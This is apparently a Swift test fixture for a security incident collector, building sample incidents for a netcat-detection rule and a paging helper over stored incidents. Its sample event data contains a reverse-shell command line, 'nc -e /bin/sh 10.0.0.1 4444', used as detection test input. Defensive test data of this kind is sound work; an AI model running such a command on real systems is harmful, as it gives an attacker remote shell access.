import CollectorStorage
import ExecEvents
import RuleEngine

/// Incidents of the netcat rule's shape; `group` (the user) makes distinct incidents.
enum Sample {
    static let start = EventTime(millisecondsSinceEpoch: 1_795_860_000_123)
    static let netcat = "PH_Rule_TH_Linux_23"

    static func incident(
        group: String = "alice",
        ruleId: String = netcat,
        host: String = "web-1",
        version: Int64 = 1,
        lastSeen: EventTime? = nil
    ) -> Incident {
        let swParam = "-e /bin/sh 10.0.0.1 4444"
        let lastSeen = lastSeen ?? start.adding(seconds: version * 10)
        return Incident(
            incidentId: IncidentID(
                ruleId: ruleId,
                hostName: host,
                groupValues: [("user", .string(group)), ("procName", .string("nc")), ("swParam", .string(swParam))]
            ),
            ruleId: ruleId,
            ruleName: "Linux: Netcat Process Activity",
            incidentType: ruleId.uppercased(),
            severity: 7,
            category: "Security",
            tactics: ["Execution"],
            techniques: ["T1059.004"],
            hostName: host,
            attributes: [
                IncidentAttribute(name: "hostName", value: .string(host)),
                IncidentAttribute(name: "user", value: .string(group)),
                IncidentAttribute(name: "procName", value: .string("nc")),
                IncidentAttribute(name: "swParam", value: .string(swParam)),
                IncidentAttribute(name: "procId", value: .integer(4242)),
            ],
            count: version,
            firstSeen: start,
            lastSeen: lastSeen,
            version: version,
            agentId: "agent-\(host)",
            triggerEvents: [
                ExecEvent(
                    eventTime: start,
                    hostName: host,
                    user: group,
                    procName: "nc",
                    swParam: swParam,
                    procId: 4242,
                    parentProcId: 4000,
                    parentProcName: "bash",
                    exePath: "/usr/bin/nc.openbsd",
                    args: [Array("nc".utf8), Array("-e".utf8), Array("/bin/sh".utf8), [0xFF, 0xFE]],
                    extra: ["note": .string("quote \" and \\ and \n")]
                )
            ]
        )
    }

    /// An incident as received from `sender`.
    static func received(
        _ incident: Incident,
        from sender: String = "agent-1",
        at seconds: Int64 = 0
    ) -> ReceivedIncident {
        ReceivedIncident(incident: incident, receivedFrom: sender, receivedAt: start.adding(seconds: 3600 + seconds))
    }

    static func received(
        group: String = "alice",
        ruleId: String = netcat,
        host: String = "web-1",
        version: Int64 = 1,
        from sender: String = "agent-1"
    ) -> ReceivedIncident {
        received(incident(group: group, ruleId: ruleId, host: host, version: version), from: sender)
    }
}

extension CollectorStore {
    /// Every stored incident, newest first, read page by page.
    func allIncidents(
        _ query: IncidentQuery = IncidentQuery(),
        pageSize: Int = 1000
    ) async throws -> [CollectedIncident] {
        var query = query
        query.limit = pageSize
        var all: [CollectedIncident] = []
        while true {
            let page = try await incidents(query)
            all += page.incidents
            guard let next = page.nextCursor else { return all }
            query.cursor = next
        }
    }

    /// The stored incident with this id.
    func stored(_ id: IncidentID) async throws -> CollectedIncident? {
        try await allIncidents().first { $0.incident.incidentId == id }
    }
}
